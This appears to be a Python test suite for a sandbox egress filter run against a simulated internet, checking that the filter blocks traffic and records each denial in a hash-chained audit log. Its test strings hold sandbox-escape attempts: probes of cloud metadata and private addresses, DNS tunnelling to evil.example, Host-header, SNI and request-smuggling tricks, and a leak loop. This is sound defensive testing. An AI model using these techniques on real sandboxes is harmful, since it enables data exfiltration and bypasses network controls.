"""The way out of sandboxes, against a fake internet: what is denied leaves nothing behind but its
row in the audit log, what is allowed arrives, and nothing arrives while atoll-egress is dead."""
import hashlib
import json
import os
import signal
import statistics
import time

import atoll
import egress_case
import fake_internet

INTERNET = fake_internet.FakeInternet()

ATTEMPTS = r"""
import errno, socket, struct, sys
def tcp(address, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(3)
    s.connect((address, port)); s.sendall(b"GET / HTTP/1.0\r\n\r\n"); return s.recv(100)
def udp(address, port, data=b"x", family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1)
    s.sendto(data, (address, port)); return s.recv(1000)
def question(name, kind=1):
    labels = b"".join(bytes([len(l)]) + l for l in name.split(b"."))
    head = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
    return head + labels + b"\0" + struct.pack(">HH", kind, 1)
def dns(name, kind=1, server="198.18.0.1"):
    answer = udp(server, 53, question(name, kind)); code = answer[3] & 15
    if code == 0: return answer
    raise OSError(code, "dns")
def rubbish():
    if udp('20.0.0.53', 53, b'rubbish')[3] & 15: raise OSError(1, "format error")
def resolve(name): return socket.getaddrinfo(name, 443)
"""

# Each is tried by itself; every one must fail, and be in the log.
ATTACKS = [
    "tcp('20.0.0.80', 80)", "tcp('20.0.0.80', 443)", "tcp('20.0.0.53', 853)",
    "tcp('169.254.169.254', 80)", "tcp('10.9.9.9', 80)", "tcp('192.168.0.1', 22)",
    "tcp('198.18.1.0', 80)", "tcp('198.19.255.255', 443)",
    "tcp('fd00:a701::100', 443, socket.AF_INET6)",
    "tcp('2606:4700::1111', 443, socket.AF_INET6)", "tcp('64:ff9b::1400:50', 80, socket.AF_INET6)",
    "tcp('198.18.0.1', 1)",
    "udp('20.0.0.53', 5353)", "udp('20.0.0.80', 443)", "udp('20.0.0.80', 123)",
    "udp('224.0.0.251', 5353)", "udp('198.18.1.0', 443)",
    "udp('2606:4700::1111', 443, b'x', socket.AF_INET6)",
    "resolve('evil.example')", "resolve('allowed.example')", "resolve('secret-label.evil.example')",
    "dns(b'evil.example', 16)", "dns(b'evil.example', 10)", "dns(b'evil.example', 5)",
    "dns(b'evil.example', 65)", "dns(b'x' * 63 + b'.' + b'y' * 63 + b'.evil.example')",
    "dns(b'evil.example', 1, '20.0.0.53')", "dns(b'EviL.eXample')", "dns(b'a\\0b.example')",
    "tcp('20.0.0.53', 53)", "rubbish()",
]


def wait_rows(test, sandbox, count):
    def enough():
        rows = test.rows(sandbox)
        return sum(row.get("count", 0) for row in rows) >= count and rows
    return atoll.wait_for(f"{count} attempts in the log", enough)


class Egress(egress_case.EgressCase):
    def attempt(self, sandbox, code):
        program = ATTEMPTS + f"\ntry:\n    print('DONE', {code})\nexcept OSError as error:\n" \
                             "    print('FAILED', type(error).__name__, error.errno)\n"
        done = self.atoll.python(sandbox, program)
        self.assertEqual(done["verdict"], "ok", done)
        return done["stdout"]

    def test_by_default_nothing_leaves_and_everything_is_recorded(self):
        questions, connections = len(INTERNET.questions), len(INTERNET.connections)
        sandbox = self.atoll.create()["id"]
        for attack in ATTACKS:
            before = sum(row.get("count", 0) for row in self.rows(sandbox))
            self.assertIn("FAILED", self.attempt(sandbox, attack), attack)
            with self.subTest(attack):
                wait_rows(self, sandbox, before + 1)
        self.assertEqual(INTERNET.questions[questions:], [])
        self.assertEqual(INTERNET.connections[connections:], [])
        self.assertEqual({row["decision"] for row in self.rows(sandbox)}, {"deny"})

    def test_the_log_is_a_chain(self):
        sandbox = self.atoll.create()["id"]
        self.attempt(sandbox, "resolve('evil.example')")
        body = self.atoll.request("GET", f"/v1/sandboxes/{sandbox}/egress").body.decode()
        link = hashlib.sha256(f"atoll audit {sandbox}".encode()).hexdigest()
        lines = body[len('{"rows":['):body.rindex('],"next_cursor"')].replace('"},{"n"', '"}\n{"n"')
        for line in lines.splitlines():
            text, chain = line[:-2].rsplit(',"chain":"', 1)
            link = hashlib.sha256((link + text).encode()).hexdigest()
            self.assertEqual(link, chain)

    def test_an_allowed_name_is_reached_and_no_other(self):
        network = {"allow": ["allowed.example", "*.wild.example:80"]}
        created = self.atoll.create(network=network)
        self.assertEqual(created["network"], network)
        sandbox = created["id"]
        self.assertEqual(self.fetch(sandbox, "http://allowed.example/x"),
                         "20.0.0.80 allowed.example /x")
        self.assertEqual(self.fetch(sandbox, "https://allowed.example/y"),
                         "20.0.0.80 allowed.example /y")
        self.assertEqual(self.fetch(sandbox, "http://deep.a.wild.example/"),
                         "20.0.0.80 deep.a.wild.example /")
        for url in ("http://other.example/", "https://a.wild.example/", "http://wild.example/"):
            self.assertIn("FAILED", self.fetch(sandbox, url), url)
        rows = self.rows(sandbox)
        allowed = [row for row in rows if row["event"] == "connect" and row["decision"] == "allow"]
        facts = [(row["name"], row["address"], row["port"], row["rule"]) for row in allowed]
        self.assertEqual(facts,
                         [("allowed.example", "20.0.0.80", 80, "allow[0]"),
                          ("allowed.example", "20.0.0.80", 443, "allow[0]"),
                          ("deep.a.wild.example", "20.0.0.80", 80, "allow[1]")])
        closed = [row for row in rows if row["event"] == "closed"]
        self.assertTrue(all(row["bytes_out"] > 0 and row["bytes_in"] > 0 for row in closed), closed)
        self.assertNotIn("other.example", INTERNET.questions)

    def test_addresses_that_are_not_the_internet_are_not_dialled(self):
        names = ["internal.example", "loop.example", "metadata.example", "rebinding.example",
                 "mixed.example"]
        sandbox = self.atoll.create(network={"allow": names})["id"]
        connections = len(INTERNET.connections)
        for name in names[:3]:
            self.assertIn("FAILED", self.fetch(sandbox, f"http://{name}/"), name)
        self.assertEqual(INTERNET.connections[connections:], [])
        reasons = {row["name"]: row["reason"] for row in self.rows(sandbox)
                   if row["event"] == "connect"}
        self.assertEqual(reasons, {name: "address_refused" for name in names[:3]})
        self.assertIn("20.0.0.80", self.fetch(sandbox, "http://rebinding.example/"))
        self.assertIn("FAILED", self.fetch(sandbox, "http://rebinding.example/"))
        self.assertIn("20.0.0.80", self.fetch(sandbox, "http://mixed.example/"))

    def test_what_is_said_must_be_for_the_same_name(self):
        sandbox = self.atoll.create(network={"allow": ["allowed.example", "other.example"]})["id"]
        requests = len(INTERNET.requests)
        code = r"""
import socket, ssl
def say(port, data):
    s = socket.create_connection(("allowed.example", port), timeout=5); s.sendall(data)
    try: return s.recv(1000).decode("latin-1").split("\r\n")[0]
    except OSError as e: return type(e).__name__
def greet(name):
    c = ssl._create_unverified_context(); c.check_hostname = False
    s = socket.create_connection(("allowed.example", 443), timeout=5)
    try: c.wrap_socket(s, server_hostname=name); return "open"
    except OSError as e: return type(e).__name__
print(say(80, b"GET / HTTP/1.1\r\nHost: other.example\r\n\r\n"))
print(say(80, b"GET http://other.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n"))
print(say(80, b"GET / HTTP/1.1\r\nHost: allowed.example\r\nHost: other.example\r\n\r\n"))
print(say(80, b"POST / HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 1\r\n"
              b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"))
print(say(443, b"GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n"))
print(say(80, b"\x16\x03\x01\x00\x05hello"))
print(greet("other.example"), greet(None), greet("allowed.example"))
s = socket.create_connection(("allowed.example", 80), timeout=5)
s.sendall(b"GET /1 HTTP/1.1\r\nHost: allowed.example\r\n\r\n"); print(s.recv(1000).decode()[:15])
s.sendall(b"GET /2 HTTP/1.1\r\nHost: other.example\r\n\r\n")
try: print("second", len(s.recv(1000)))
except OSError as e: print("second", type(e).__name__)
"""
        done = self.atoll.python(sandbox, code)
        lines = done["stdout"].splitlines()
        for line in lines[:4]:
            self.assertEqual(line, "HTTP/1.1 403 Forbidden", done)
        self.assertNotIn("200", "".join(lines[4:6]), done)
        self.assertNotIn("open", lines[6].split()[:2], done)
        self.assertEqual(lines[6].split()[2], "open", done)
        self.assertEqual(lines[7:], ["HTTP/1.1 200 OK", "second ConnectionResetError"], done)
        self.assertEqual([request[1:] for request in INTERNET.requests[requests:]],
                         [("allowed.example", "GET /1 HTTP/1.1")])
        reasons = {row.get("reason") for row in self.rows(sandbox)}
        self.assertTrue({"host_mismatch", "bad_http", "protocol_refused", "server_name_mismatch",
                         "no_server_name"} <= reasons, reasons)

    def test_a_change_is_in_force_at_once_and_cuts_connections(self):
        sandbox = self.atoll.create(network={"rules": [
            {"allow": "allowed.example", "ports": [2222, 9000], "protocol": "tcp"}]})["id"]
        code = ("import socket, time\n"
                "s = socket.create_connection(('allowed.example', 2222), timeout=20)\n"
                "print(s.recv(100).decode().strip(), flush=True)\n"
                "try: print('got', s.recv(100))\nexcept OSError as e: print(type(e).__name__)\n")
        started = self.atoll.start(sandbox, ["python3", "-c", code])
        atoll.wait_for("the banner", lambda: b"SSH" in self.atoll.output(sandbox, started["id"]))
        answer = self.atoll.request("PATCH", f"/v1/sandboxes/{sandbox}", {"network": {"allow": []}})
        self.assertEqual((answer.status, answer.json["network"]), (200, {"allow": []}), answer.body)
        self.atoll.wait_ended(sandbox, started["id"])
        self.assertIn(b"ConnectionResetError", self.atoll.output(sandbox, started["id"]))
        self.assertIn("FAILED", self.attempt(sandbox, "resolve('allowed.example')"))
        self.assertIn("policy_changed", {row.get("reason") for row in self.rows(sandbox)})

    def test_rules_that_cannot_be_held_are_refused(self):
        # More than egress is told at once.
        paths = [f"/v1/a/path/of/its/own/{i}/**" for i in range(64)]
        many = [{"allow": f"a{i}.b.example", "inspect": True, "paths": paths} for i in range(100)]
        for network, code in (({"allow": ["169.254.169.254"]}, "invalid_network_rule"),
                              ({"rules": many}, "invalid_network_rule"),
                              ({"allow": [f"10.0.{i}.1" for i in range(65)]},
                               "invalid_network_rule"),
                              ({"allow": ["a_b"]}, "invalid_network_rule"),
                              ({"rules": [{"allow": "a.b", "path": "/x"}]}, "unknown_field"),
                              ({"allow": ["*.com"]}, "invalid_network_rule")):
            answer = self.atoll.request("POST", "/v1/sandboxes",
                                        {"template": "python", "network": network})
            self.assertEqual((answer.status, answer.json["error"]["code"]), (400, code), network)

    def test_a_flood_is_counted(self):
        sandbox = self.atoll.create()["id"]
        code = ("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nn = 0\n"
                "for i in range(20000):\n"
                "    try: s.sendto(b'x', ('20.0.0.80', 9))\n    except OSError: n += 1\nprint(n)\n")
        self.assertEqual(self.atoll.python(sandbox, code)["stdout"].strip(), "20000")
        rows = wait_rows(self, sandbox, 20000)
        self.assertEqual(sum(row["count"] for row in rows), 20000)
        self.assertLess(len(rows), 100)

    def test_nothing_leaves_while_egress_is_dead(self):
        rounds = 50 if os.environ.get("ATOLL_TEST_LONG") else 5
        sandbox = self.atoll.create(network={"allow": ["allowed.example"]}, ttl_ms=3_600_000)["id"]
        denied = self.atoll.create(ttl_ms=3_600_000)["id"]
        loop = ("import socket\nwhile True:\n"
                "    for target in (('20.0.0.80', 80), ('evil.example', 80), ('198.18.1.0', 80)):\n"
                "        try: socket.create_connection(target, timeout=1).sendall(b'leak')\n"
                "        except OSError: pass\n")
        attempts = self.atoll.start(denied, ["python3", "-c", loop], timeout_ms=3_600_000)
        connections, questions = len(INTERNET.connections), len(INTERNET.questions)
        lock = os.path.join(self.atoll.run_directory, "egress", "egress.lock")
        times = []
        for _ in range(rounds):
            pid = atoll.wait_for("egress", lambda: atoll.lock_holder(lock))
            os.kill(pid, signal.SIGKILL)
            began = time.monotonic()
            atoll.wait_for("egress to serve again", lambda: "20.0.0.80" in self.fetch(
                sandbox, "http://allowed.example/"), 10)
            times.append(time.monotonic() - began)
        print(f"{rounds} kills: without egress, with the time of a program, "
              f"{statistics.median(times):.2f} s, at most {max(times):.2f} s", flush=True)
        running = self.atoll.show_exec(denied, attempts["id"])
        self.assertEqual(running["state"], "running", "it tried all the time")
        others = [name for name in INTERNET.questions[questions:] if name != "allowed.example"]
        self.assertEqual(others, [])
        self.assertEqual(len(INTERNET.connections) - connections,
                         len([row for row in self.rows(sandbox)
                              if row["event"] == "connect" and row["decision"] == "allow"]))

    def test_sandboxes_outlive_atolld(self):
        sandbox = self.atoll.create(network={"allow": ["allowed.example"]})["id"]
        os.kill(self.atoll.daemon_pid, signal.SIGKILL)
        self.atoll.close()
        atoll.wait_for("atolld", lambda: self.atoll.daemon_pid)
        self.atoll.wait_ready()
        self.assertIn("20.0.0.80", self.fetch(sandbox, "http://allowed.example/"))

    def test_egress_runs_unprivileged(self):
        lock = os.path.join(self.atoll.run_directory, "egress", "egress.lock")
        status = atoll.read(f"/proc/{atoll.lock_holder(lock)}/status")
        facts = dict(line.split(":\t", 1) for line in status.splitlines() if ":\t" in line)
        self.assertNotIn("0", facts["Uid"].split())
        self.assertEqual(int(facts["CapEff"], 16), 0)
        self.assertEqual(facts["NoNewPrivs"].strip(), "1")


if __name__ == "__main__":
    if os.geteuid() == 0:
        INTERNET.enter()
    atoll.main()
